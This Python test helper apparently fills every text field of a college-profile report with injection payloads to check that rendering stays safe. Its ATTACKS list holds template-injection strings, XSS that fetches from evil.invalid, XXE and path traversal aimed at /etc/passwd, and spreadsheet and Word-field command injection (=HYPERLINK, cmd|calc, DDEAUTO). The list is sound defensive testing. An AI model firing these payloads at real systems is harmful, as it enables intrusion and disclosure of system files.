"""A profile whose every text tries to be something other than text."""

from __future__ import annotations

from itertools import cycle
from typing import TYPE_CHECKING, Any

import report_sample as sample
from hepu.profile.schema import list_specs, questions

if TYPE_CHECKING:
    from collections.abc import Iterator

__all__ = ["ATTACKS", "hostile"]

# For templates, format strings, HTML, SVG, CSS, addresses, formulas, fields of word processors and paths.
ATTACKS = (
    "{{ 7 * 1913 }}",
    "{% include 'document.html.j2' %}",
    "{# hidden #}x",
    "{0.__class__.__mro__}",
    "{indicator.intl_ft_students}",
    "{office}{college}{where}%(x)s%s${7*1913}",
    "<script>fetch('http://evil.invalid/')</script>",
    "<img src=http://evil.invalid/a.png onerror=alert(1)>",
    "<link rel=stylesheet href=file:///etc/passwd>",
    "<style>@import url(http://evil.invalid/a.css);</style>",
    "</style></head><body><h1>1337",
    "<svg><image href='file:///etc/passwd'/></svg>",
    "<a href='javascript:alert(1)'>1337</a>",
    '" onclick="alert(1)" x=\'',
    "]]><!-- x --><!ENTITY e SYSTEM 'file:///etc/passwd'>&e;",
    "<!-- references -->",
    "&lt;b&gt;1337&#x3c;/b&#x3e;",
    "url(file:///etc/passwd)\\22 ;}*{content:url(http://evil.invalid/)}",
    '=HYPERLINK("http://evil.invalid/","1337")',
    "+cmd|' /C calc'!A0",
    "-1+1|cmd",
    "@SUM(1+1)",
    "http://evil.invalid/1337",
    "file:///etc/passwd",
    "../../../../etc/passwd",
    "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe",
    "</w:t><w:fldSimple w:instr='INCLUDETEXT /etc/passwd'/>",
)


def hostile(profile: dict[str, Any]) -> dict[str, Any]:
    """Give a profile with an attack in every place that takes a text, each told apart by its number."""
    texts = (f"{attack} {at}" for at, attack in enumerate(cycle(ATTACKS)))
    profile = {**profile}
    college = profile["college"]
    profile["college"] = {
        **college,
        "name": {"zh": next(texts), "en": next(texts)},
        "former_names": [next(texts), next(texts)],
        "code": "{{7*1913}}",
    }
    for question in questions():
        if question.kind == "text":
            profile[question.section] = {
                **profile[question.section],
                question.id: sample.answer(next(texts)),
            }
    for section in ("college", "resources"):
        profile[section] = {name: _told(value, texts) for name, value in profile[section].items()}
    profile["indicators"] = {
        name: {year: _told(value, texts) for year, value in years.items()}
        for name, years in profile["indicators"].items()
    }
    for spec in list_specs():
        *above, last = spec.path.split(".")
        holder = profile.get(above[0], {}) if above else profile
        if last in holder:
            written = [item.id for item in spec.fields if item.kind == "text"]
            holder[last] = {
                **holder[last],
                "rows": [
                    {**row, **{name: next(texts) for name in written}, "source": next(texts), "evidence": next(texts)}
                    for row in holder[last]["rows"]
                ],
            }
    return profile


def _told(value: Any, texts: Iterator[str]) -> Any:
    """Give an answer with a source and evidence; what is no answer stays."""
    if not isinstance(value, dict) or "status" not in value:
        return value
    return {**value, "source": next(texts), "evidence": next(texts)}
